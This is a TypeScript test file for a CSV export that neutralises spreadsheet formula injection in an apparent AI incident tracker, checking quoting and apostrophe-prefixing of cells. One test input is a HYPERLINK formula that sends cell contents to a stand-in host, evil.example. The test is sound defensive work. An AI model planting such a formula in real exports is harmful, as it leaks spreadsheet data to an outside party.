import type { Incident } from '@countersign/sdk/contract'
import { describe, expect, it } from 'vitest'
import { cellOf, csvOf, fileNameOf } from './csv.ts'

describe('a cell', () => {
  it.each([
    { value: 'plain', cell: 'plain' },
    { value: '', cell: '' },
    { value: null, cell: '' },
    { value: true, cell: 'yes' },
    { value: false, cell: 'no' },
    { value: 'one, two', cell: '"one, two"' },
    { value: 'say "glue"', cell: '"say ""glue"""' },
    { value: 'two\nlines', cell: '"two\nlines"' },
    { value: 'two\r\nlines', cell: '"two\r\nlines"' },
    { value: 'a tab\there', cell: 'a tab\there' },
    { value: '=1+1', cell: "'=1+1" },
    { value: '=HYPERLINK("https://evil.example?"&A1,"x")', cell: `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"` },
    { value: '+49 30 1234', cell: "'+49 30 1234" },
    { value: '-2', cell: "'-2" },
    { value: '@SUM(A1:A9)', cell: "'@SUM(A1:A9)" },
    { value: '＝1+1', cell: "'＝1+1" },
    { value: '＋1', cell: "'＋1" },
    { value: '－2', cell: "'－2" },
    { value: '＠SUM(A1:A9)', cell: "'＠SUM(A1:A9)" },
    { value: '\t=1', cell: "\t'=1" },
    { value: '\r=1', cell: `"\r'=1"` },
    { value: '\n=1', cell: `"\n'=1"` },
    { value: 'x;=1+1', cell: "x;'=1+1" },
    { value: 'x;\u2003=1+1', cell: "x;\u2003'=1+1" },
    { value: 'x\t=1+1', cell: "x\t'=1+1" },
    { value: 'a,b;＝1+1', cell: `"a,b;'＝1+1"` },
    { value: 'a\n@SUM(A1)', cell: `"a\n'@SUM(A1)"` },
    { value: 'x|"=1', cell: `"x|""'=1"` },
    { value: ' =1+1', cell: " '=1+1" },
    { value: 'a=b', cell: 'a=b' },
    { value: 'Zürich 東京', cell: 'Zürich 東京' },
  ])('$value is written as $cell', ({ value, cell }) => {
    expect(cellOf(value)).toBe(cell)
  })
})

const incident: Incident = {
  id: 'inc_06dh0e3x7c9bw4vjz2n8qk5ytm',
  model_id: 'mdl_06dh0e3x7c9bw4vjz2n8qk5ytm',
  model_name: '=Atlas',
  category: 'other',
  severity: 'low',
  status: 'resolved',
  title: 'It said "glue"',
  description: 'First\nsecond, third',
  reference_url: null,
  screenshot_url: null,
  is_verified_report: true,
  counts_publicly: true,
  reporter_email: '-reader@mail.example',
  reporter_fingerprint: null,
  provider_response: '@all: fixed',
  created_at: '2026-11-20T10:15:00.000Z',
  resolved_at: '2026-11-21T10:15:00.000Z',
}

describe('the file', () => {
  it('has a header, a line for each incident, and no byte order mark', () => {
    expect(csvOf([incident])).toBe(
      'id,created_at,status,severity,category,title,description,model_id,model_name,is_verified_report,counts_publicly,' +
        'reporter_email,reporter_fingerprint,reference_url,screenshot_url,provider_response,resolved_at\r\n' +
        'inc_06dh0e3x7c9bw4vjz2n8qk5ytm,2026-11-20T10:15:00.000Z,resolved,low,other,"It said ""glue""","First\nsecond, third",' +
        `mdl_06dh0e3x7c9bw4vjz2n8qk5ytm,'=Atlas,yes,yes,'-reader@mail.example,,,,'@all: fixed,2026-11-21T10:15:00.000Z\r\n`,
    )
    expect(csvOf([]).split('\r\n')).toHaveLength(2)
  })

  it.each([
    { filter: { status: 'all', severity: 'all' }, name: 'incidents-2026-11-21.csv' },
    { filter: { status: 'reported', severity: 'high' }, name: 'incidents-reported-high-2026-11-21.csv' },
  ])('is named $name', ({ filter, name }) => {
    expect(fileNameOf(filter, Date.parse('2026-11-21T12:00:00Z'))).toBe(name)
  })
})
